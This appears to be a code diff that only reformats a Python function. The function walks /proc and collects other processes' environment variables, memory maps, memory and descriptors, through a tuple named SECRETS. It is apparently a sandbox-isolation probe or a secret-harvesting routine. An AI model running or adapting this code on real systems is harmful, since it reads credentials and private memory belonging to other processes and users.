@@ -6,12 +6,25 @@ import platform
 import resource
 
 libc = ctypes.CDLL(None, use_errno=True)
-SECRETS = ("environ", "maps", "mem", "auxv", "stack", "syscall", "pagemap", "smaps", "io", "personality")
+SECRETS = (
+    "environ",
+    "maps",
+    "mem",
+    "auxv",
+    "stack",
+    "syscall",
+    "pagemap",
+    "smaps",
+    "io",
+    "personality",
+)
 
 
 def handler(event):
     got = []
-    for pid in sorted({int(name) for name in os.listdir("/proc") if name.isdigit()} | {1, os.getppid()}):
+    for pid in sorted(
+        {int(name) for name in os.listdir("/proc") if name.isdigit()} | {1, os.getppid()}
+    ):
         if pid not in (0, os.getpid()):
             got += read(pid) + follow(pid) + descriptors(pid) + memory(pid)
     return got
